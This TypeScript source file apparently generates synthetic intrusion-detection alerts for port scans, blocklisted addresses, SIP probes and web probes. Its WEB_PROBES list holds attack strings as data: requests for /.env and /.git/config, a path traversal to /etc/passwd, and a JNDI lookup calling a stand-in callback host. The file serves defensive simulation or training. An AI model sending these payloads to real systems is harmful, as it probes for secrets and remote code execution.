import { alertLine, line, openFlow, SECOND } from './eve.ts';
import { EDGE, host, hostsOf, outsider, WEBSITE } from './network.ts';
import { http, SSH_LIBRARY, ssh } from './protocols.ts';
import { weighted } from './random.ts';
import { close, type Session } from './sessions.ts';
import { SIG } from './signatures.ts';

/** Harmless alerts from outside: scanners, listed addresses, probes of the web site. */
const dmz = hostsOf('dmz');

// A few scanners come back all week, the rest is seen once or twice.
const scanner = weighted(Array.from({ length: 64 }, (_, n) => [1 / (n + 2), outsider(1000 + n * 7)] as const));

const PROBES = [
  { signature: SIG.scanSsh, ports: [22], answers: true },
  { signature: SIG.scanSmb, ports: [445], answers: false },
  { signature: SIG.scanRdp, ports: [3389, 3388, 33_890], answers: false },
  { signature: SIG.scanTelnet, ports: [23, 2323], answers: false },
  { signature: SIG.scanDatabase, ports: [1433, 3306, 5432, 6379, 9200, 27_017], answers: false },
] as const;

/** A scanner has its own interest: it asks for the same service everywhere. */
export const probe: Session = (random, time, emit) => {
  const from = scanner(random);
  const kind = PROBES[Number.parseInt(from.slice(-2).replace('.', ''), 10) % PROBES.length]!;
  const first = random.pick(dmz);
  const targets = random.chance(0.2) ? dmz : [first];
  targets.forEach((target, index) => {
    const start = time + index * random.int(40_000, 900_000);
    const flow = openFlow(
      random,
      EDGE,
      start,
      'TCP',
      from,
      target.ip,
      random.pick(kind.ports),
      random.int(1024, 65_535),
    );
    const open = kind.answers && target.name === 'jump01';
    emit(start, alertLine(flow, start, kind.signature, { up: 0, down: 0 }));
    if (open) {
      const banner = start + random.int(60_000, 240_000);
      emit(banner, line(flow, banner, 'ssh', ssh(SSH_LIBRARY)));
      close(
        random,
        flow,
        { end: banner + random.int(100_000, SECOND), app: 'ssh', up: 900, down: 1400, alerted: true },
        emit,
      );
    } else {
      close(
        random,
        flow,
        {
          end: start,
          app: null,
          up: 0,
          down: kind.answers ? 1 : 0,
          alerted: true,
          tcp: kind.answers ? 'reset' : 'syn_sent',
        },
        emit,
      );
    }
  });
};

export const listed: Session = (random, time, emit) => {
  const flow = openFlow(
    random,
    EDGE,
    time,
    'TCP',
    outsider(1500 + random.int(0, 39) * 3),
    random.pick(dmz).ip,
    random.pick([22, 25, 80, 443, 8080, 8443]),
    random.int(1024, 65_535),
  );
  emit(time, alertLine(flow, time, SIG.listed, { up: 0, down: 0 }));
  close(random, flow, { end: time, app: null, up: 0, down: 0, alerted: true, tcp: 'syn_sent' }, emit);
};

export const sip: Session = (random, time, emit) => {
  const from = outsider(1800 + random.int(0, 5) * 11);
  const flow = openFlow(random, EDGE, time, 'UDP', from, random.pick(dmz).ip, 5060, random.int(5000, 5200));
  const payload = `OPTIONS sip:100@${flow.dst} SIP/2.0\r\nVia: SIP/2.0/UDP ${from}:${flow.sport};branch=z9hG4bK-${random.int(10_000, 99_999)};rport\r\nMax-Forwards: 70\r\nFrom: "probe"<sip:100@1.1.1.1>\r\nUser-Agent: dialsweep\r\nContent-Length: 0\r\n\r\n`;
  emit(time, alertLine(flow, time, SIG.scanSip, { up: payload.length, down: 0, app: 'sip', payload }));
  close(random, flow, { end: time, app: 'sip', up: payload.length, down: 0, alerted: true }, emit);
};

const WEB_PROBES = [
  { weight: 6, signature: SIG.webEnv, url: '/.env', agent: 'python-requests/2.31.0' },
  { weight: 4, signature: SIG.webEnv, url: '/.git/config', agent: 'python-requests/2.31.0' },
  {
    weight: 6,
    signature: SIG.scanWeb,
    url: '/admin/login.php',
    agent: 'Mozilla/5.0 (compatible; GapFinder/1.4; +http://gapfinder.test/bot)',
  },
  { weight: 5, signature: SIG.scanWeb, url: '/wp-login.php', agent: 'Mozilla/5.0 zbrowse/0.x' },
  { weight: 2, signature: SIG.webTraversal, url: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', agent: 'curl/7.88.1' },
  {
    weight: 1,
    signature: SIG.webLookup,
    url: '/?q=status',
    agent: '$'.concat('{jndi:ldap://callback.lookbait.test:1389/a}'),
  },
] as const;
const webProbeKind = weighted(WEB_PROBES.map((one) => [one.weight, one]));

export const webProbe: Session = (random, time, emit) => {
  const kind = webProbeKind(random);
  const from = outsider(1200 + ((kind.signature.id * 5 + random.int(0, 5)) % 60) * 5);
  const flow = openFlow(random, EDGE, time, 'TCP', from, host('www01').ip, 80, random.int(1024, 65_535));
  const status = random.pick([301, 403, 404, 404]);
  const at = time + random.int(40_000, 300_000);
  const body = http({
    host: random.chance(0.5) ? WEBSITE.name : flow.dst,
    url: kind.url,
    agent: kind.agent,
    status,
    length: 162,
    type: 'text/html',
  });
  const payload = `GET ${kind.url} HTTP/1.1\r\nHost: ${flow.dst}\r\nUser-Agent: ${kind.agent}\r\nAccept: */*\r\n\r\n`;
  emit(at, alertLine(flow, at, kind.signature, { body, app: 'http', tx: 0, up: payload.length, down: 0, payload }));
  const logged = at + random.int(200, 9000);
  emit(logged, line(flow, logged, 'http', body, false, 0));
  close(
    random,
    flow,
    { end: at + random.int(20_000, SECOND), app: 'http', up: payload.length, down: 420, alerted: true },
    emit,
  );
};
